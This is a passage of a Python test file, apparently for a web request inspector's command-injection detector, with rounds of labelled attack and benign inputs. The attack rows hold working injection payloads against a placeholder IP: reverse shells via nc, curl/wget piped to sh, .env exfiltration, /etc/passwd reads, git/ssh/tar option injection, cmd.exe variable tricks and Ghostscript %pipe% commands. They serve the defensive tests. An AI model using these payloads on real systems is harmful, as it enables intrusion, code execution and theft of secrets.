    assert not set(ROUND6_BENIGN) & set(ALL_BENIGN + ROUND5_BENIGN)
    assert not set(ROUND6_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS)


# Argument injection (blind batch d's `--upload-pack=` into a repository field): an option that makes git, ssh, tar or
# rsync run a program, where the application hands the value to the tool as an argument.
@pytest.mark.parametrize("value", ["--upload-pack=touch /tmp/pwned", "-oProxyCommand=curl 198.18.0.9/x|sh",
                                   "--checkpoint-action=exec=sh shell.sh", "ext::sh -c touch% /tmp/pwned",
                                   "-c core.sshCommand=id", "--receive-pack='nc 198.18.0.9 4444 -e sh'",
                                   "--config=core.pager=id"])
def test_option_injection_into_a_tool(engine, value):
    for r in (req("/api/mirror?repo=" + quote(value, safe="")), req("/api/sync?host=" + quote(value, safe=""))):
        assert verdict(engine.inspect(r)) == "attack", value


@pytest.mark.parametrize("value", ["--verbose", "-o output.txt", "how to use --upload-pack with git clone",
                                   "--no-cache --pull", "-e production", "https://github.com/acme/shop.git"])
def test_options_that_run_nothing_are_clean(value):
    f = rce.analyze(value)
    assert f is None or f.score < THRESHOLD, f


# --- Round 8 (blind batches g–j and benign 4). Commands inside rich-text markup (`<pre><code>npm install …</code>`):
# to a shell the opening tag is a redirection from a missing file and the first word an output file, so a value that
# opens with a tag has no program at its start (separators and substitutions inside still count). Markdown documents:
# link and badge syntax reads as its text around an inline code span. Searches naming a tool's dotfile among words.
# cmd.exe names built from `set` variables, rsync's `-e` naming a shell, Ghostscript's `%pipe%`. Measured before the
# fix: 17 / 17 attacks caught and 10 / 17 benign flagged in the first part; in the second (cmd/rsync/gs) 4 / 13 attacks
# caught (by other rules) and 0 / 12 benign flagged. After: 30 / 30 caught, 0 / 29 flagged.
ROUND8_ATTACKS: list[tuple[str, str]] = [
    ("form", "<p>hello</p>; cat /etc/passwd"),
    ("form", "<b>x</b> | nc 198.18.0.9 4444 -e /bin/sh"),
    ("form", "<code>$(id)</code>"),
    ("json", "<pre>`whoami`</pre>"),
    ("form", "<p>ok</p>\ncurl -s http://198.18.0.9/x.sh | bash"),
    ("form", "<code>x</code> && wget http://198.18.0.9/s -O /tmp/s"),
    ("form", "<p>/bin/cat /etc/passwd</p>"),
    ("json", "[![x](https://a.example/b.svg)](https://c.example/d)\n\n`curl http://198.18.0.9/x|sh`"),
    ("json", "# title\n\n[a](https://b.example) $(id)"),
    ("json", "[![Build](https://img.shields.io/x.svg)](https://ci.example/x)`id`"),
    ("form", "[link](https://x.example) `cat /etc/passwd`"),
    ("json", "# readme\n`wget -O- http://198.18.0.9/a | sh`"),
    ("query", "bash .x"),
    ("query", "$(cat .env)"),
    ("query", "cat /app/.env"),
    ("query", "curl -F f=@.env http://198.18.0.9/"),
    ("query", "php .htaccess"),
    # cmd.exe: a program name spelled by variables the value sets (or glued from several)
    ("form", "& set x=whoami& call %x%"),
    ("query", "x& set a=who& set b=ami& %a%%b%"),
    ("form", "a | set p=net& %p% user"),
    ("json", "x&& set c=who& set d=ami& start %c%%d%"),
    ("query", "1 & set n=ipcon& set m=fig& call %n%%m% /all"),
    # rsync's remote-shell option naming a shell or a downloader
    ("query", "-e 'sh -c \"curl 198.18.0.9/x|sh\"' host:/data"),
    ("form", "-e \"bash -c id\" a:b"),
    ("query", "-e'sh -c id' x:"),
    ("json", "-e 'wget -qO- 198.18.0.9/s|sh' h:"),
    # Ghostscript's pipe device
    ("form", "/OutputFile (%pipe%curl http://198.18.0.9/x -o /tmp/x)"),
    ("form", "-sOutputFile=%pipe%nc 198.18.0.9 4444"),
    ("json", "%!PS\n(%pipe%touch /tmp/gs) (w) file"),
    ("form", "mark /OutputFile (|touch /tmp/pwned) currentdevice putdeviceprops"),
]
ROUND8_BENIGN: list[tuple[str, str]] = [
    ("form", '<pre><code class="language-shell">pip install -r requirements.txt</code></pre>'),
    ("form", '<pre>docker run -d -p 8080:80 nginx</pre><p>The site is then on port 8080.</p>'),
    ("json", '<p><code>brew install --cask firefox</code></p>'),
    ("form", '<li><code>npm run build -- --watch</code></li>'),
    ("form", '<pre class="wp-block-code"><code>sudo apt-get install -y curl</code></pre>'),
    ("json", '<h3>Setup</h3><pre><code>python3 -m venv .venv</code></pre>'),
    ("json", "# left-pad\n\n[![npm](https://img.shields.io/npm/v/left-pad.svg)](https://www.npmjs.com/package/left-pad)\n\n"
             "Install with `npm i left-pad`."),
    ("json", "## Usage\n\n[![PyPI](https://img.shields.io/pypi/v/httpx.svg)](https://pypi.org/project/httpx/)\n\n"
             "Run `python -m httpx --help` for the options."),
    ("form", "# acme-cli\n\n![demo](docs/demo.gif)\n\nThen start it with `acme serve --port 8080`."),
    ("json", "[![CI](https://github.com/acme/app/actions/workflows/ci.yml/badge.svg)](https://github.com/acme/app/actions)\n\n"
             "Build it with `cargo build --release` first."),
    ("form", "# dotfiles\n\n[![License: MIT](https://img.shields.io/badge/License-MIT-yellow.svg)](LICENSE)\n\nClone and run `./install.sh`."),
    ("query", "git .gitignore not working"),
    ("query", "npm .npmrc registry token"),
    ("query", "python .env file load"),
    ("query", "vim .vimrc example"),
    ("query", "docker compose env_file vs .env"),
    ("query", "kubectl .kube config location"),
    ("form", "Please call %name% at reception & start %time%"),
    ("form", "Hi %first_name%, your order %order_id% & invoice %invoice_no% are attached"),
    ("form", "%first_name% & %last_name%"),
    ("query", "-e production"),
    ("query", "-e ssh"),
    ("query", "-e \"ssh -p 2222\""),
    ("query", "-e 's/colour/color/g'"),
    ("query", "-e shellcheck"),
    ("query", "Ghostscript %pipe% device explained"),
    ("query", "gs -sOutputFile=out.pdf in.ps"),
    ("form", "/OutputFile (out.pdf) currentdevice putdeviceprops"),
    ("query", "the %pipe% syntax in gs docs"),
]


def test_round8_sets_are_distinct():
    assert len(set(ROUND8_ATTACKS)) == len(ROUND8_ATTACKS) and len(set(ROUND8_BENIGN)) == len(ROUND8_BENIGN)
    assert not set(ROUND8_BENIGN) & set(ALL_BENIGN + ROUND5_BENIGN + ROUND6_BENIGN)
    assert not set(ROUND8_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS + ROUND6_ATTACKS)


# Round 9 (blind round 5 false positives). A record of `Label: value` lines (a crash report, an event log, a service
# listing) names Windows system paths as field values: the newline ends a field, not a command, so it gives the path
# no command-line context. Template tags (`{% if x == "y" %}` in Jinja, Liquid, Twig, Nunjucks) hold an `if` that
# cmd.exe would only run in command position, never after `{%`. Near-misses: a cmdlet or program on a line of its own,
# a pipe inside a field, cmd.exe's `if`/`for` after a separator. Measured before the fix: 17 / 17 attacks caught,
# 11 / 11 benign flagged; after: 17 / 17, 0 / 11.
ROUND9_ATTACKS: list[tuple[str, str]] = [
    ("query", "1\ntype C:\\Windows\\win.ini"),
    ("query", "a\nGet-ChildItem C:\\Windows\\System32"),
    ("query", "x\r\nGet-Content C:\\Windows\\win.ini"),
    ("json", "Path: C:\\Windows\\System32\\\nGet-Process"),
    ("query", "x\nstart C:\\Windows\\System32\\calc.exe"),
    ("query", "1\n%SystemRoot%\\system32\\calc.exe"),
    ("query", "Path: C:\\Windows\\System32\\ | whoami"),
    ("json", "Path: C:\\Windows\\System32\\cmd.exe /c whoami\nStatus: ok"),
    ("query", "note: x\nGet-ChildItem C:\\Windows\\System32 -Recurse"),
    ("query", "test & C:\\Windows\\System32\\calc.exe"),
    ("query", "x & if a==a calc"),
    ("query", "& if exist c:\\windows\\win.ini type c:\\windows\\win.ini"),
    ("query", "1 | if \"%OS%\"==\"Windows_NT\" whoami"),
    ("query", "x & if 1==1 (whoami)"),
    ("query", "x & for /f %i in ('whoami') do echo %i"),
    ("form", "{% x %} & if a==a whoami"),
    ("json", "| if defined ProgramFiles calc"),
]
ROUND9_BENIGN: list[tuple[str, str]] = [
    ("json", "Faulting application name: app.exe, version: 1.2.0.0\nFaulting module path: "
             "C:\\Windows\\System32\\KERNELBASE.dll\nException code: 0xe0434352"),
    ("form", "Image path: C:\\Windows\\System32\\svchost.exe\nStart type: Automatic"),
    ("json", "Service: Spooler\nPath: C:\\Windows\\System32\\spoolsv.exe\nStatus: Running"),
    ("json", "Module: C:\\Windows\\System32\\ucrtbase.dll\nOffset: 0x000000000007286e"),
    ("form", "Installed to: %ProgramFiles%\\Acme\nLog: %TEMP%\\acme-setup.log"),
    ("form", "{% if user.role == 'admin' %}<a href=\"/admin\">Admin</a>{% endif %}"),
    ("json", "{% if product.available == true %}In stock{% else %}Sold out{% endif %}"),
    ("form", "{%- if app.request.locale == 'de' -%}Hallo{%- endif -%}"),
    ("json", "{% if page.url == \"/\" %}class=\"active\"{% endif %}"),
    ("form", "{% if cart.item_count == 0 %}Your cart is empty{% endif %}"),
    ("json", "{% if site.lang == \"fr\" %}Bonjour{% elsif site.lang == \"de\" %}Hallo{% endif %}"),
]


def test_round9_sets_are_distinct():
    assert len(set(ROUND9_ATTACKS)) == len(ROUND9_ATTACKS) and len(set(ROUND9_BENIGN)) == len(ROUND9_BENIGN)
    assert not set(ROUND9_BENIGN) & set(ALL_BENIGN + ROUND5_BENIGN + ROUND6_BENIGN + ROUND8_BENIGN)
    assert not set(ROUND9_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS + ROUND6_ATTACKS + ROUND8_ATTACKS)


# The later rounds' lists through the same checks (rounds 5 and 6 were written for the rce analyser alone: their
# benign rows must raise no rce finding; rounds 8 and 9 must stay clean altogether)
@pytest.mark.parametrize("row", ROUND5_ATTACKS + ROUND6_ATTACKS + ROUND8_ATTACKS + ROUND9_ATTACKS, ids=_label)
def test_later_rounds_command_injection_is_caught(engine, row):
    hits = engine.inspect(carry(*row))
    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("row", ROUND5_BENIGN + ROUND6_BENIGN, ids=_label)
def test_round5_6_benign_raises_no_rce_finding(engine, row):
    hits = engine.inspect(carry(*row))
    assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("row", ROUND8_BENIGN + ROUND9_BENIGN, ids=_label)
def test_round8_9_benign_is_clean(engine, row):
    hits = engine.inspect(carry(*row))
    assert verdict(hits) == "clean", [(h.rule, h.score) for h in hits if h.score >= THRESHOLD]
